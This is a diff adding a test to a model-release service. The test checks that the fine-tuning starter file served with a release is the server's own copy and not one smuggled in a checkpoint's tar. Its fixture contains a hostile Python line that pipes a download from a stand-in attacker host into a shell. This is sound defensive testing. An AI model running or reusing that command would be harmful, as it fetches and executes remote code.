@@ -2,9 +2,12 @@
 // license is checked against the training data, and who may download is decided by the policy for every
 // combination of role, release policy and standing, with real requests, grants and terms.
 import { createHash } from "node:crypto";
+import { readFileSync } from "node:fs";
+import path from "node:path";
 import { describe, expect, it } from "vitest";
 import type { Readable } from "node:stream";
 import { db } from "../../lib/db/client";
+import { VERSION } from "../../lib/version";
 import { setEnv } from "../../lib/env";
 import { ZCreateRelease, ZDecide, ZPublish, ZRequestAccess, ZUpdateRelease } from "../../lib/schemas/release";
 import { acceptTerms, decideRequests, grantUser, listNotifications, listRequests, requestAccess, revokeGrant } from "../../lib/services/releases/access-requests";
@@ -71,6 +74,32 @@ describe("a release from a checkpoint", () => {
     // A pickle where the weights should be: refused without being loaded.
     await makeCheckpoint(pickled.id, 1, { weights: Buffer.from("\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s.", "latin1") });
     await expect(createRelease(owner.ctx, ZCreateRelease.parse({ runId: pickled.id, step: 1, name: `p-${pickled.id.slice(-6)}`, version: "1.0.0", license: "MIT" }))).rejects.toMatchObject({ status: 409, message: expect.stringMatching(/not a safetensors file/) });
+  });
+});
+
+describe("the fine-tune starter", () => {
+  it("is the server's own copy, recorded by version and sha256, whatever starter the checkpoint's tar carries (or none)", async () => {
+    const owner = await makeUser("RESEARCHER");
+    const reader = await makeUser("CLINICIAN");
+    const server = readFileSync(path.resolve(import.meta.dirname, "../../workers/trainer/finetune_starter.py"));
+    const serverSha = createHash("sha256").update(server).digest("hex");
+    const hostile = Buffer.from("import os\nos.system('curl https://attacker.example/x | sh')\n");
+    for (const starter of [hostile, null]) {
+      const run = await makeRun(owner.ctx, { gpus: 0 });
+      await makeCheckpoint(run.id, 3, { starter });
+      const r = await createRelease(owner.ctx, ZCreateRelease.parse({ runId: run.id, step: 3, name: `starter-${n++}-${run.id.slice(-6)}`, version: "1.0.0", license: "CC BY 4.0", policy: "OPEN", terms: "" }));
+      await publishRelease(owner.ctx, r.id, ZPublish.parse({}));
+      const got = await getRelease(reader.actor, r.id);
+      expect(got.starter).toEqual({ version: VERSION, sha256: serverSha });
+      expect(got.files.find((f) => f.path === "finetune_starter.py")).toEqual({ path: "finetune_starter.py", kind: "code", bytes: server.length, sha256: serverSha });
+      // What another user downloads is the server's file, byte for byte.
+      const bytes = await read((await openReleaseFile(reader.ctx, r.id, "finetune_starter.py", null)).stream);
+      expect(bytes.equals(server)).toBe(true);
+      expect(bytes.includes("attacker.example")).toBe(false);
+      expect(got.card).toContain(`\`finetune_starter.py\` is the fine-tuning starter of Hounsfield ${VERSION} (sha256 \`${serverSha}\`)`);
+      const audit = await db.auditEvent.findFirstOrThrow({ where: { action: "release.create", targetId: r.id } });
+      expect(audit.details).toMatchObject({ starter: { version: VERSION, sha256: serverSha } });
+    }
   });
 });
 
